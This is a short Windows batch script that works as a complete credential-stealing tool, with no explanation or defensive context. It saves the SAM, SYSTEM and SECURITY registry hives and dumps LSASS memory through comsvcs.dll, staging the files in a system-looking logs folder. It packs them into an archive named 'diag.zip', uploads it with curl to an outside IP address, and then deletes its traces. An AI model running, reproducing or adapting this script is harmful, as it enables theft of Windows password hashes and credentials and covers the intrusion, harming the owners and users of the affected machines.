@echo off
setlocal
set "W=%ProgramData%\USOShared\Logs\x"
mkdir "%W%" 2>nul
reg save HKLM\SAM "%W%\s.hiv" /y >nul
reg save HKLM\SYSTEM "%W%\y.hiv" /y >nul
reg save HKLM\SECURITY "%W%\c.hiv" /y >nul
for /f "tokens=2" %%p in ('tasklist /fi "imagename eq lsass.exe" /nh') do set LP=%%p
rundll32.exe C:\Windows\System32\comsvcs.dll, MiniDump %LP% "%W%\l.dmp" full
tar -a -cf "%W%\..\diag.zip" -C "%W%" .
curl.exe -s -F "host=%COMPUTERNAME%" -F "f=@%W%\..\diag.zip" http://203.0.113.50/up.php
rmdir /s /q "%W%"
del /q "%W%\..\diag.zip"
endlocal
